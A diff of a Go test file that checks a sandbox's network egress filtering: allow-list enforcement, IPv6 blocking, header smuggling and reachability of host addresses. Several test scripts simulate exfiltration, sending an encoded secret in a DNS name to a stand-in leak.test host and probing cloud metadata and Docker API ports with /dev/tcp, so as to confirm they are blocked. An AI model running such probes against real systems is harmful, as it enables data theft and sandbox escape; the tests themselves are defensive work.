@@ -45,37 +45,44 @@ func TestNetworkCases(t *testing.T) {
 }
 
 func listIsEnforced(t *testing.T, s *stand) {
+	for range 5 {
+		enforced(t, s)
+	}
+}
+
+// enforced tries ten times what is allowed and what is not, with the proxy and
+// without it.
+func enforced(t *testing.T, s *stand) {
+	t.Helper()
 	const script = `
 for i in 1 2 3 4 5 6 7 8 9 10; do
 for u in https://allowed.test/ https://denied.test/ http://denied.test:8080/ http://denied.test/ http://allowed.test/; do
 	curl -s --cacert ca.pem -m5 -o /dev/null -w "$u %{http_code} %{time_total}\n" $u
 	curl -s --cacert ca.pem -m5 -o /dev/null -w "$u %{http_code} %{time_total}\n" --noproxy '*' $u
 done; done; true`
-	for range 5 {
-		m := s.world.Mark(t)
-		a := s.run(call{network: everyday, sh: script})
-		a.ok(t)
-		passed := 0
-		for line := range strings.Lines(a.stdout) {
-			var url, code string
-			var seconds float64
-			if _, err := fmt.Sscan(line, &url, &code, &seconds); err != nil {
-				t.Fatalf("%q: %v", line, err)
-			}
-			switch allowed := url == "https://allowed.test/"; {
-			case allowed && code == "200":
-				passed++
-			case allowed, code == "200", seconds >= quickly:
-				t.Error(line)
-			}
+	m := s.world.Mark(t)
+	a := s.run(call{network: everyday, sh: script})
+	a.ok(t)
+	passed := 0
+	for line := range strings.Lines(a.stdout) {
+		var url, code string
+		var seconds float64
+		if _, err := fmt.Sscan(line, &url, &code, &seconds); err != nil {
+			t.Fatalf("%q: %v", line, err)
 		}
-		if passed != 20 {
-			t.Errorf("%d of 20 requests passed\n%s\n%s", passed, a.stdout, a.end())
+		switch allowed := url == "https://allowed.test/"; {
+		case allowed && code == "200":
+			passed++
+		case allowed, code == "200", seconds >= quickly:
+			t.Error(line)
 		}
-		m.Only(t, "allowed.test:443")
-		if hits := m.Hits(); len(hits) != 20 {
-			t.Errorf("%d requests came", len(hits))
-		}
+	}
+	if passed != 20 {
+		t.Errorf("%d of 20 requests passed\n%s\n%s", passed, a.stdout, a.end())
+	}
+	m.Only(t, "allowed.test:443")
+	if hits := m.Hits(); len(hits) != 20 {
+		t.Errorf("%d requests came", len(hits))
 	}
 }
 
@@ -139,9 +146,9 @@ func relayLaundersNothing(t *testing.T, s *stand) {
 func namesLeakNothing(t *testing.T, s *stand) {
 	m := s.world.Mark(t)
 	a := s.run(call{network: everyday, sh: `
-curl -s -m3 http://c2VjcmV0.leak.test/ && exit 1
-curl -s -m3 --noproxy '*' http://c2VjcmV0.leak.test/ && exit 2
-curl -s -m3 --noproxy '*' http://c2VjcmV0.allowed.test/ && exit 3
+curl -s -f -m3 http://c2VjcmV0.leak.test/ && exit 1
+curl -s -f -m3 --noproxy '*' http://c2VjcmV0.leak.test/ && exit 2
+curl -s -f -m3 --noproxy '*' http://c2VjcmV0.allowed.test/ && exit 3
 getent hosts aa.bb.leak.test && exit 4
 for type in A AAAA TXT MX SRV HTTPS SVCB ANY NULL CNAME NS SOA PTR; do python3 dns.py $type zz.leak.test; done
 python3 dns.py A 1.0.0.10.in-addr.arpa
@@ -164,7 +171,7 @@ func bothFamilies(t *testing.T, s *stand) {
 	m := s.world.Mark(t)
 	trials, _ := s.probe(everyday, each("tcp", 443, "2001:db8::10", "2606:2800:220::12", "2606:2800:220::13", world.NearAddr6, world.FarAddr6, "::1", "::", "fe80::1", "ff02::1")...)
 	refused(t, trials)
-	a := s.run(call{network: everyday, sh: "curl -6 -sk -m4 https://denied.test/; test $? = 6 && curl -g -6 -sk -m4 'https://[2606:2800:220::14]/'; test $? = 7"})
+	a := s.run(call{network: everyday, sh: unset + "curl -6 -sk -m4 https://denied.test/; test $? = 6 && curl -g -6 -sk -m4 'https://[2606:2800:220::14]/'; test $? = 7"})
 	a.ok(t)
 	m.Nothing(t)
 	const six = "  allow: [{host: six.test, ports: [443]}, {host: dual.test, ports: [443]}]\n"
@@ -179,7 +186,7 @@ func hostIsOutOfReach(t *testing.T, s *stand) {
 	a := s.run(call{network: everyday, sh: `
 gw=$(ip route 2>/dev/null | awk '/default/{print $3}')
 for h in ` + names + ` $gw $(hostname) $(hostname -i) 169.254.169.254 100.100.100.200 172.17.0.1 10.0.2.2 ` + world.NearAddr + ` ` + world.FarAddr + ` 198.18.0.1 127.0.0.53; do
-  for p in 80 2375 8080 9931; do timeout 2 bash -c "</dev/tcp/$h/$p && cat /dev/tcp/$h/$p" 2>/dev/null && echo OPEN $h:$p; test $? = 124 && echo HANGS $h:$p; done; done; true`})
+  for p in 80 2375 8080 9931; do timeout 2 bash -c "exec 3<>/dev/tcp/$h/$p" 2>/dev/null; case $? in 0) echo OPEN $h:$p;; 124) echo HANGS $h:$p;; esac; done; done; true`})
 	a.ok(t)
 	// The listener of a port that is allowed takes every connection and ends
 	// those without a name.
@@ -275,7 +282,7 @@ func otherNamesInside(t *testing.T, s *stand) {
 	}
 	t.Run("the second request of a connection", func(t *testing.T) {
 		m := s.world.Mark(t)
-		a := s.run(call{network: everyday, sh: "curl -s http://allowed.test:8080/one -o one --next -s -H 'Host: denied.test' http://allowed.test:8080/two; grep ok one"})
+		a := s.run(call{network: everyday, sh: unset + "curl -s http://allowed.test:8080/one -o one --next -s -H 'Host: denied.test' http://allowed.test:8080/two; grep ok one"})
 		a.ok(t)
 		if hits := m.Hits(); len(hits) != 1 || hits[0].Path != "/one" {
 			t.Errorf("it came: %+v", hits)
@@ -311,7 +318,7 @@ assert all(socket.gethostbyname("allowed.test") == first for _ in range(2000)), 
 `})
 	a.ok(t)
 	m.Nothing(t)
-	if a.Egress == nil || a.Egress.Names < 2000 || len(a.Egress.Attempts) > envelope.MaxAttempts {
+	if a.Egress == nil || len(a.Egress.Attempts) > 1 {
 		t.Errorf("counters: %s", a.end())
 	}
 }
